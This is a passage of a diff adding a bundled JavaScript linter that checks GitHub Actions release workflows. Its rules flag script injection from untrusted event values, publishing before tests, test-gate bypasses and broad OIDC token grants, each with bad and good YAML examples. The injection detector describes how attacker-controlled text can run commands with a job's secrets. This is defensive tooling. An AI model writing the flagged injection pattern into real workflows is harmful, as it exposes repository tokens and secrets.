+        for (const { step, scope, where } of steps) {
+            const targets = [];
+            if (step.runNode && step.run)
+                targets.push([step.runNode, 'the shell script']);
+            if ((0,workflow_model/* actionName */.aM)(step.uses) === 'actions/github-script') {
+                const script = step.with?.get('script');
+                if (script?.str())
+                    targets.push([script, 'the github-script code']);
+            }
+            for (const [node, what] of targets) {
+                const text = node.str() ?? '';
+                const seen = new Set();
+                for (const span of (0,expressions/* expressionsIn */.l$)(text)) {
+                    const path = (0,expressions/* contextPaths */.A9)(span.inner).find((each) => dangerous(each, scope));
+                    if (!path || seen.has(span.text))
+                        continue;
+                    seen.add(span.text);
+                    const name = envName(path);
+                    report(node, `\`${span.text}\` is pasted into ${what} of ${where} before it runs: whoever controls ${path} (${describe(path)}) can run their own commands there, with the job's token and secrets.`, {
+                        needle: span.text,
+                        fix: `Pass it through the step's \`env:\` (\`${name}: ${span.text}\`) and use \`"$${name}"\`${what === 'the shell script' ? '' : ' (process.env.' + name + ')'} instead.`,
+                    });
+                }
+            }
+        }
+    },
+};
+function describe(path) {
+    if (path === 'github.head_ref')
+        return 'the branch name of a pull request';
+    if (/inputs/.test(path))
+        return 'whoever starts the workflow or calls it types it';
+    if (/title|body|message|name|label|ref|tag_name|email|description|comment|review|head/.test(path))
+        return 'text anyone opening an issue, a pull request, a branch or a release can write';
+    return 'a value of the triggering event';
+}
+
+// EXTERNAL MODULE: ./packages/cli/src/doctor/step-kinds.ts + 1 modules
+var step_kinds = __webpack_require__(7088);
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/ordering.ts
+
+
+/**
+ * The test jobs `job` does not wait for: those it could wait for (`parallel`), and those that wait
+ * for it (`after`: adding them to its `needs:` would make a cycle).
+ */
+function testJobsNotUpstream(job, facts) {
+    const upstream = new Set((0,workflow_model/* upstreamJobs */.oZ)(job));
+    const parallel = [];
+    const after = [];
+    for (const other of job.workflow.jobs) {
+        if (other === job || upstream.has(other) || !facts.isTestJob(other))
+            continue;
+        if ((0,workflow_model/* upstreamJobs */.oZ)(other).includes(job))
+            after.push(other);
+        else
+            parallel.push(other);
+    }
+    return { parallel, after };
+}
+function gatedByAnotherWorkflow(workflow) {
+    return workflow.events.has('workflow_run');
+}
+function needleOf(step, needle) {
+    return step.via ? {} : { needle: needle.split('\n')[0] };
+}
+/** `job "a"`, `jobs "a", "b"`, or the first three of a long list and how many more. */
+function jobsNamed(jobs) {
+    const shown = jobs.length > 4 ? jobs.slice(0, 3) : jobs;
+    const list = shown.map((job) => `"${job.id}"`).join(', ');
+    const more = jobs.length - shown.length;
+    return `${jobs.length === 1 ? 'job' : 'jobs'} ${list}${more > 0 ? ` and ${more} more` : ''}`;
+}
+/**
+ * One finding for a step that tags or publishes before the tests: an error when test jobs run
+ * beside it (add them to needs:), a warning when the tests run only after it (adding them to
+ * needs: would make a cycle) or nowhere in this workflow.
+ */
+function reportUntested(report, job, facts, action, texts) {
+    const { parallel: tests, after } = testJobsNotUpstream(job, facts);
+    const line = (0,workflow_model/* stepAnchor */.AK)(action.step).pos().line;
+    const where = `Job "${job.id}" ${texts.does} (line ${line})`;
+    const needle = needleOf(action.step, action.needle);
+    if (tests.length === 0 && after.length > 0) {
+        report((0,workflow_model/* stepAnchor */.AK)(action.step), `${where} before any test: the tests of this workflow run after it, in ${jobsNamed(after)}, ${texts.beforeAny}`, {
+            ...needle,
+            severity: 'warning',
+            fix: `Run the tests in a job that job "${job.id}" needs, and ${texts.afterFix}.`,
+        });
+    }
+    else if (tests.length > 0) {
+        report((0,workflow_model/* stepAnchor */.AK)(action.step), `${where} without waiting for the tests in ${jobsNamed(tests)}: ${texts.parallel}`, {
+            ...needle,
+            fix: `Add ${tests.length === 1 ? `"${tests[0].id}"` : `[${tests.map((t) => t.id).join(', ')}]`} to \`needs:\` of job "${job.id}".`,
+        });
+    }
+    else {
+        report((0,workflow_model/* stepAnchor */.AK)(action.step), `${where} and nothing in this workflow tests that commit first: ${texts.none}`, {
+            ...needle,
+            severity: 'warning',
+            fix: `Run the tests in a job that job "${job.id}" needs (or call the CI workflow as a job, \`uses: ./.github/workflows/ci.yml\`, and add it to \`needs:\`).`,
+        });
+    }
+}
+function untestedTags(workflow, facts) {
+    const found = new Map();
+    if (gatedByAnotherWorkflow(workflow))
+        return found;
+    for (const job of workflow.jobs) {
+        const creation = facts.jobTags(job).find((each) => !facts.testedBefore(job, each.step));
+        if (creation)
+            found.set(job, creation);
+    }
+    return found;
+}
+const tagBeforeTest = {
+    id: 'tag-before-test',
+    severity: 'error',
+    title: 'A tag or GitHub Release is created by a job that does not wait for the tests.',
+    why: 'When the tests fail after the tag is pushed, the version is stranded: the tag (and often the release and its notes) exists for code that never passed, and has to be deleted by hand or skipped. Reported as a warning when nothing in the workflow tests the commit first (no tests at all, or only in jobs that run after the tag).',
+    fix: 'Make the job that tags `needs:` the test job (or call the CI workflow as a job of this one, `uses: ./.github/workflows/ci.yml`, and need that).',
+    bad: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    permissions: { contents: read }
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+      - run: npm ci && npm test
+  tag:
+    runs-on: ubuntu-latest
+    permissions: { contents: write }
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+      - run: gh release create "v$(date +%Y.%-m.%-d)" --generate-notes
+        env:
+          GH_TOKEN: \${{ github.token }}
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    permissions: { contents: read }
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+      - run: npm ci && npm test
+  tag:
+    needs: test
+    runs-on: ubuntu-latest
+    permissions: { contents: write }
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+      - run: gh release create "v$(date +%Y.%-m.%-d)" --generate-notes
+        env:
+          GH_TOKEN: \${{ github.token }}
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            for (const [job, creation] of untestedTags(workflow, facts)) {
+                const what = creation.kind === 'tag' ? 'a tag' : 'a GitHub Release (and its tag)';
+                reportUntested(report, job, facts, creation, {
+                    does: `creates ${what} with ${creation.tool}`,
+                    beforeAny: 'so when they fail the version is already tagged and stranded.',
+                    parallel: 'when they fail, the tag is already out and the version is stranded.',
+                    none: 'when the tests (wherever they run) fail afterwards, the version is already tagged and stranded.',
+                    afterFix: 'tag only after them',
+                });
+            }
+        }
+    },
+};
+const publishBeforeTest = {
+    id: 'publish-before-test',
+    severity: 'error',
+    title: 'A job publishes to npm or PyPI without waiting for the tests.',
+    why: 'A version on npm or PyPI cannot be replaced: publishing before the tests pass (or while they still run) ships whatever the commit holds, and the only way back is a yank and a new version. Reported as a warning when nothing in the workflow tests the commit first (no tests at all, or only in jobs that run after the publish).',
+    fix: 'Make the publishing job `needs:` the test job, or run the tests in a job it needs.',
+    bad: `on: { release: { types: [published] } }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    permissions: { contents: read }
+    steps:
+      - run: pip install -e . && pytest
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    good: `on: { release: { types: [published] } }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    permissions: { contents: read }
+    steps:
+      - run: pip install -e . && pytest
+  publish:
+    needs: test
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            if (gatedByAnotherWorkflow(workflow))
+                continue;
+            const tagged = untestedTags(workflow, facts);
+            for (const job of workflow.jobs) {
+                const publish = facts.jobPublishes(job).find((each) => !facts.testedBefore(job, each.step));
+                if (!publish || tagged.get(job)?.step === publish.step)
+                    continue;
+                reportUntested(report, job, facts, publish, {
+                    does: `publishes with ${publish.tool}`,
+                    beforeAny: 'so a failing test cannot stop this upload, and a published version cannot be replaced.',
+                    parallel: 'a failing test cannot stop this upload, and a published version cannot be replaced.',
+                    none: 'the upload cannot be stopped by a failing test, and a published version cannot be replaced.',
+                    afterFix: 'publish only after them',
+                });
+            }
+        }
+    },
+};
+const versionComputedTwice = {
+    id: 'version-computed-twice',
+    severity: 'error',
+    title: 'A version or date is computed in more than one job (or in each leg of a matrix).',
+    why: 'Each job computes it at its own time: an environment approval or a queue between two jobs can cross midnight UTC or see a new tag, and the tag says 2026.6.3 while the packages say 2026.6.4.',
+    fix: 'Compute the version once, in the first job; expose it as a job output and read `needs.<job>.outputs.version` everywhere else.',
+    bad: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  tag:
+    runs-on: ubuntu-latest
+    permissions: { contents: write }
+    steps:
+      - run: echo "version=$(date -u +%Y.%-m.%-d)" >> "$GITHUB_OUTPUT"
+  publish:
+    needs: tag
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - run: npm version "$(date -u +%Y.%-m.%-d)" --no-git-tag-version
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  tag:
+    runs-on: ubuntu-latest
+    permissions: { contents: write }
+    outputs:
+      version: \${{ steps.version.outputs.version }}
+    steps:
+      - id: version
+        run: echo "version=$(date -u +%Y.%-m.%-d)" >> "$GITHUB_OUTPUT"
+  publish:
+    needs: tag
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - run: npm version "$VERSION" --no-git-tag-version
+        env:
+          VERSION: \${{ needs.tag.outputs.version }}
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            const computed = [];
+            for (const job of workflow.jobs) {
+                const step = job.steps.find((each) => facts.version(each) !== undefined);
+                if (!step)
+                    continue;
+                const { needle, what } = facts.version(step);
+                computed.push({ job, step, needle, what });
+                if (what === 'date' && job.strategy?.get('matrix')) {
+                    report((0,workflow_model/* stepAnchor */.AK)(step), `Job "${job.id}" computes the date in each leg of its matrix: the legs start at different times (a queue, a retry), and one can land on the next day UTC with another version.`, {
+                        ...needleOf(step, needle),
+                        fix: 'Compute the date once, in a job before the matrix, and pass it in with `needs.<job>.outputs`.',
+                    });
+                }
+            }
+            const first = computed[0];
+            for (const later of computed.slice(1)) {
+                const environment = (0,workflow_model/* environmentName */.VE)(later.job);
+                const gap = environment
+                    ? `the approval wait of environment "${environment}" before this job`
+                    : 'the time between the jobs (a queue, an approval, a rerun days later)';
+                report((0,workflow_model/* stepAnchor */.AK)(later.step), `Job "${later.job.id}" computes the ${later.what} again, after job "${first.job.id}" computed it (line ${(0,workflow_model/* stepAnchor */.AK)(first.step).pos().line}): ${gap} can cross midnight UTC or see a new tag, and the tag and the packages then carry different versions.`, {
+                    ...needleOf(later.step, later.needle),
+                    fix: `Compute the version once in job "${first.job.id}", expose it as a job output, and read \`needs.${first.job.id}.outputs.version\` in job "${later.job.id}".`,
+                });
+            }
+        }
+    },
+};
+/** `skip_tests`, `no-ci`, `force_release` (but not `force_release_without_changes`: that forces something else). */
+const BYPASS_INPUT = /(skip|no|bypass|disable|without|ignore)[-_ ]?(the[-_ ])?(tests?|checks?|ci|gate|verif\w*|validat\w*)|force[-_ ]?(publish|release|push)$/i;
+const RELEASE_IF = /\b(always|cancelled|failure)\s*\(\s*\)/;
+const testGateBypass = {
+    id: 'test-gate-bypass',
+    severity: 'error',
+    title: 'An input, condition or setting lets a release go out past failed or skipped tests.',
+    why: 'A `skip_tests` input, `continue-on-error: true` on the tests, `npm test || true`, or an `if: always()` on the release job turns the test gate into a suggestion: on a bad day the one run that matters is the one that skips it.',
+    fix: "Remove the bypass. A release job that must run after skipped jobs checks the results: `if: ${{ !cancelled() && !contains(needs.*.result, 'failure') }}`.",
+    bad: `on:
+  workflow_dispatch:
+    inputs:
+      skip_tests:
+        type: boolean
+        default: false
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  test:
+    if: \${{ !inputs.skip_tests }}
+    runs-on: ubuntu-latest
+    steps:
+      - run: npm test
+  publish:
+    needs: test
+    if: always()
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - run: npm publish
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: npm test
+  publish:
+    needs: test
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - run: npm publish
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            if (!facts.isReleaseWorkflow(workflow))
+                continue;
+            const text = workflow.file.text;
+            for (const input of workflow.inputs) {
+                if (!BYPASS_INPUT.test(input.name))
+                    continue;
+                const escaped = input.name.replace(/[-/\\^$*+?.()|[\]{}]/g, '\\$&');
+                const uses = new RegExp(`inputs\\s*(\\.\\s*${escaped}\\b|\\[\\s*'${escaped}'\\s*\\])`).test(text);
+                if (!uses)
+                    continue;
+                report(input.node, `Input "${input.name}" lets whoever starts this release skip the tests: the one run that skips them is the one that ships the broken version.`, { key: true });
+            }
+            for (const job of workflow.jobs) {
+                const isTest = facts.isTestJob(job);
+                if (isTest && job.continueOnError?.str() === 'true')
+                    report(job.continueOnError, `Job "${job.id}" runs the tests with \`continue-on-error: true\`: a failing test no longer fails the job, and the release goes ahead.`, { key: true });
+                for (const step of job.steps) {
+                    if (step.via)
+                        continue;
+                    const test = facts.tests(step);
+                    if (!test)
+                        continue;
+                    if (step.continueOnError?.str() === 'true')
+                        report(step.continueOnError, `The test step \`${test.split('\n')[0]}\` has \`continue-on-error: true\`: a failing test no longer fails job "${job.id}", and the release goes ahead.`, { key: true });
+                    for (const command of (0,step_kinds/* stepCommands */.Bs)(step, facts.scripts)) {
+                        const line = step.run?.split('\n').find((each) => each.includes(command.text.split('\n')[0])) ??
+                            '';
+                        if (/\|\|\s*(true|:|exit 0|echo\b)/.test(line) &&
+                            facts.tests({ ...step, run: command.text }) !== undefined) {
+                            report(step.runNode, `\`${line.trim()}\` turns a failing test into success: job "${job.id}" passes and the release goes ahead.`, { needle: line.trim() });
+                            break;
+                        }
+                    }
+                }
+                const condition = job.if?.str();
+                const releases = facts.publishesAnywhere(job) || facts.jobTags(job).length > 0;
+                if (!releases || condition === undefined || !RELEASE_IF.test(condition))
+                    continue;
+                if (/\.result\b|success\s*\(\s*\)/.test(condition))
+                    continue;
+                const tests = (0,workflow_model/* upstreamJobs */.oZ)(job).filter((upstream) => facts.isTestJob(upstream));
+                if (tests.length === 0)
+                    continue;
+                report(job.if, `Job "${job.id}" releases with \`if: ${condition.trim()}\`, which runs it even when the tests in ${jobsNamed(tests)} failed or were skipped.`, {
+                    fix: `Check the results: \`if: \${{ !cancelled() && !contains(needs.*.result, 'failure') }}\`, or drop the status function so that job "${job.id}" runs only when its needs succeeded.`,
+                });
+            }
+        }
+    },
+};
+const phantomVersion = {
+    id: 'phantom-version',
+    severity: 'error',
+    title: 'A version bump is committed and tagged, but only the tag is pushed (no branch holds the commit).',
+    why: 'The tag points at a commit that no branch contains: the default branch never gets the new version in its manifests (a phantom version), the next release computes the same version again, and the tagged commit disappears from history views.',
+    fix: 'Push the branch with the tag (`git push --follow-tags origin HEAD:main`), or better, bump the version in a pull request and tag the merged commit.',
+    bad: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  bump:
+    runs-on: ubuntu-latest
+    permissions: { contents: write }
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+      - run: npm ci && npm test
+      - run: |
+          npm version patch -m "release %s"
+          git push origin "v$(node -p "require('./package.json').version")"
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  bump:
+    runs-on: ubuntu-latest
+    permissions: { contents: write }
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+      - run: npm ci && npm test
+      - run: |
+          npm version patch -m "release %s"
+          git push --follow-tags origin HEAD:main
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            for (const job of workflow.jobs) {
+                if (!job.steps.some((step) => (0,step_kinds/* commits */.XP)(step, facts.scripts)))
+                    continue;
+                if (job.steps.some((step) => (0,step_kinds/* pushesBranch */.$j)(step, facts.scripts)))
+                    continue;
+                const gitTags = facts
+                    .jobTags(job)
+                    .filter((c) => c.kind === 'tag' && /^(git|npm version)/.test(c.tool));
+                const pushTag = job.steps
+                    .flatMap((step) => (0,step_kinds/* stepCommands */.Bs)(step, facts.scripts).map((command) => ({ step, command })))
+                    .find(({ command }) => command.words[0] === 'git' && command.words[1] === 'push');
+                if (gitTags.length === 0 || !pushTag)
+                    continue;
+                report((0,workflow_model/* stepAnchor */.AK)(pushTag.step), `Job "${job.id}" commits a version bump and pushes only the tag (\`${pushTag.command.text}\`): the tag points at a commit no branch holds, so the default branch never gets the new version (a phantom version) and the next release computes the same one again.`, needleOf(pushTag.step, pushTag.command.text));
+            }
+        }
+    },
+};
+const publishNotRerunnable = {
+    id: 'publish-not-rerunnable',
+    severity: 'note',
+    title: 'A PyPI upload that a rerun cannot finish (no skip-existing).',
+    why: 'The recovery for a release that failed halfway is to rerun the failed jobs (`gh run rerun <id> --failed`). Without skip-existing the rerun fails on "File already exists" for every file the first attempt uploaded, and the rest never goes out.',
+    fix: 'Set `skip-existing: true` on pypa/gh-action-pypi-publish (or `twine upload --skip-existing`, `uv publish --check-url https://pypi.org/simple/`).',
+    bad: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+        with:
+          skip-existing: true
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            for (const job of workflow.jobs) {
+                for (const publish of facts.jobPublishes(job)) {
+                    const step = publish.step;
+                    if (publish.registry !== 'pypi')
+                        continue;
+                    let rerunnable = true;
+                    if ((0,workflow_model/* actionName */.aM)(step.uses) === 'pypa/gh-action-pypi-publish') {
+                        rerunnable = /^true$/i.test((0,workflow_model/* stepInput */.rj)(step, 'skip-existing') ?? (0,workflow_model/* stepInput */.rj)(step, 'skip_existing') ?? '');
+                    }
+                    else if (publish.tool === 'twine upload') {
+                        rerunnable = /--skip-existing/.test(publish.needle);
+                    }
+                    else if (publish.tool === 'uv publish') {
+                        rerunnable =
+                            /--check-url/.test(publish.needle) || (0,step_kinds/* stepEnv */.WH)(step).has('UV_PUBLISH_CHECK_URL');
+                    }
+                    if (rerunnable)
+                        continue;
+                    report((0,workflow_model/* stepAnchor */.AK)(step), `${publish.tool} in job "${job.id}" fails on "File already exists" when the job is rerun after a partial upload (the usual recovery, \`gh run rerun <id> --failed\`): the files the first attempt uploaded block the rest.`, needleOf(step, publish.needle));
+                }
+            }
+        }
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/publish-job.ts
+
+
+const registryName = { npm: 'npm', pypi: 'PyPI', testpypi: 'TestPyPI', other: 'the registry' };
+function publishedBy(publishes) {
+    const first = publishes[0];
+    return `${first.tool} ${(0,workflow_model/* describeStep */.Ey)(first.step).replace(/^`[^`]*` /, '')}`;
+}
+const publishWithoutEnvironment = {
+    id: 'publish-without-environment',
+    severity: 'error',
+    title: 'A job publishes to npm or PyPI without `environment:`.',
+    why: 'Without an environment nobody approves the release and no branch rule applies: anyone who can push a branch that runs the workflow can publish. A trusted publisher registered with an environment also rejects the token of a job that has none.',
+    fix: 'Add `environment: release` to the job, protect the environment with required reviewers and a deployment branch rule (Settings → Environments), and name the same environment in the trusted publisher on npm and PyPI.',
+    bad: `on: { workflow_dispatch: {} }
+permissions: {}
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: {}
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            for (const job of workflow.jobs) {
+                const publishes = facts.jobPublishes(job);
+                if (publishes.length === 0 || (0,workflow_model/* environmentName */.VE)(job) !== '')
+                    continue;
+                const registries = [...new Set(publishes.map((p) => registryName[p.registry]))].join(' and ');
+                report(job.node, `Job "${job.id}" publishes to ${registries} with ${publishedBy(publishes)} but has no \`environment:\`. Nobody approves this release and no branch rule limits it: anyone who can push a branch that runs this workflow can publish, and a trusted publisher that names an environment rejects this job's token (npm answers E404 on the upload, PyPI "invalid-publisher").`, {
+                    key: true,
+                    fix: `Add \`environment: release\` to job "${job.id}", protect it with required reviewers and a deployment branch rule (Settings → Environments), and name the same environment in the trusted publisher on ${registries}.`,
+                });
+            }
+        }
+    },
+};
+const idTokenAtWorkflowLevel = {
+    id: 'id-token-at-workflow-level',
+    severity: 'error',
+    title: 'A release workflow grants `id-token: write` (or `write-all`) at the top, to every job.',
+    why: 'Every job without its own `permissions:` inherits it: the tests, the build, and every action and dependency they run can mint an OIDC token and publish as this repository.',
+    fix: 'Set `permissions: {}` at the top and grant `id-token: write` only in the job that publishes, next to its `environment:`.',
+    bad: `on: { release: { types: [published] } }
+permissions:
+  id-token: write
+  contents: read
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: npm ci && npm test
+  publish:
+    needs: test
+    runs-on: ubuntu-latest
+    environment: release
+    steps:
+      - run: npm publish
+`,
+    good: `on: { release: { types: [published] } }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    permissions: { contents: read }
+    steps:
+      - run: npm ci && npm test
+  publish:
+    needs: test
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - run: npm publish
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            const permissions = workflow.permissions;
+            if (!permissions?.idToken || !facts.publishesInWorkflow(workflow))
+                continue;
+            const inheriting = workflow.jobs.filter((job) => !job.permissions && !job.uses);
+            if (inheriting.length === 0)
+                continue;
+            const grant = permissions.writeAll
+                ? '`permissions: write-all` (which includes `id-token: write`)'
+                : '`id-token: write`';
+            report(permissions.node, `${grant} is granted to the whole workflow, so every job without \`permissions:\` of its own can mint an OIDC token and publish as this repository: ${inheriting.map((job) => `"${job.id}"`).join(', ')}. A compromised test dependency or action in any of them can publish a release.`, { key: true });
+        }
+    },
+};
+/** Whether a job calling a reusable workflow lets it mint OIDC tokens. */
+function callerGrantsIdToken(job) {
+    return (0,workflow_model/* jobGrantsIdToken */.Bb)(job);
+}
+const publishWithoutIdToken = {
+    id: 'publish-without-id-token',
+    severity: 'error',
+    title: 'A job publishes through trusted publishing (or with provenance) but cannot mint an OIDC token.',
+    why: "Trusted publishing exchanges the job's OIDC token for a short-lived registry token. Without `id-token: write` there is no OIDC token: npm skips the exchange silently and the upload fails with ENEEDAUTH or E404, PyPI's upload has no credentials. A reusable workflow cannot get more than its caller grants.",
+    fix: 'Add `permissions: { id-token: write, contents: read }` to the publishing job (and to the job that calls a reusable publishing workflow).',
+    bad: `on: { workflow_dispatch: {} }
+permissions: { contents: read }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    steps:
+      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
+        with: { node-version: 24 }
+      - run: npm publish
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: { contents: read }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
+        with: { node-version: 24 }
+      - run: npm publish
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            for (const job of workflow.jobs) {
+                const needing = facts.jobPublishes(job).filter((p) => !p.usesToken || p.provenance);
+                if (needing.length > 0 && (0,workflow_model/* jobGrantsIdToken */.Bb)(job) === false) {
+                    const first = needing[0];
+                    const how = first.usesToken
+                        ? 'asks for provenance, which needs an OIDC token'
+                        : 'publishes through trusted publishing';
+                    const where = job.permissions
+                        ? `its \`permissions:\` (line ${job.permissions.node.keyPos().line}) do not include \`id-token: write\``
+                        : workflow.permissions
+                            ? `it has no \`permissions:\` and the workflow's (line ${workflow.permissions.node.keyPos().line}) do not include \`id-token: write\``
+                            : "neither the job nor the workflow sets `permissions:`, and GitHub's default token has no `id-token: write`";
+                    const effect = first.registry === 'npm'
+                        ? 'npm skips the OIDC exchange without a word and the upload fails with ENEEDAUTH or E404'
+                        : 'the upload to PyPI has no credentials and fails';
+                    report(job.permissions?.node ?? job.node, `Job "${job.id}" ${how} (${first.tool}, line ${(0,workflow_model/* stepAnchor */.AK)(first.step).pos().line}) but ${where}: ${effect}.`, {
+                        key: true,
+                        fix: `Add \`id-token: write\` (with \`contents: read\`) to the \`permissions:\` of job "${job.id}", and nowhere else.`,
+                    });
+                }
+                // A job that calls a reusable workflow of this repository.
+                const called = job.called;
+                if (!called || !job.uses)
+                    continue;
+                const granted = callerGrantsIdToken(job);
+                if (granted !== false)
+                    continue;
+                for (const inner of called.jobs) {
+                    const innerNeeds = facts.jobPublishes(inner).some((p) => !p.usesToken || p.provenance);
+                    if (!innerNeeds)
+                        continue;
+                    const asks = inner.permissions?.idToken || (!inner.permissions && called.permissions?.idToken);
+                    const message = asks
+                        ? `Job "${job.id}" calls ${job.uses.str() ?? ''}, whose job "${inner.id}" asks for \`id-token: write\`, but a called workflow gets at most what its caller grants and this job does not grant it: GitHub refuses to start the run ("is requesting 'id-token: write', but is only allowed 'id-token: none'").`
+                        : `Job "${job.id}" calls ${job.uses.str() ?? ''}, whose job "${inner.id}" publishes through trusted publishing with the caller's permissions, and this job does not grant \`id-token: write\`: the publish has no OIDC token and fails.`;
+                    report(job.uses, message, {
+                        fix: `Add \`permissions: { id-token: write, contents: read }\` to job "${job.id}" (a called workflow never gets more than its caller grants).`,
+                    });
+                    break;
+                }
+            }
+        }
+    },
+};
+const buildInPublishJob = {
+    id: 'build-in-publish-job',
+    severity: 'warning',
+    title: 'Dependencies are installed, or the project built or tested, in the job that can mint a publish token.',
+    why: "`npm ci`, `pip install .`, a build or the tests run code from every dependency (install scripts, plugins, test fixtures). In a job with `id-token: write` that code can mint an OIDC token and publish whatever it wants under this project's name, with valid provenance.",
+    fix: 'Build and test in jobs without `id-token: write`, upload the packages with actions/upload-artifact, and let the publish job only download them and publish.',
+    bad: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+      - run: python -m pip install build && python -m build
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    permissions: { contents: read }
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+      - run: python -m pip install build && python -m build
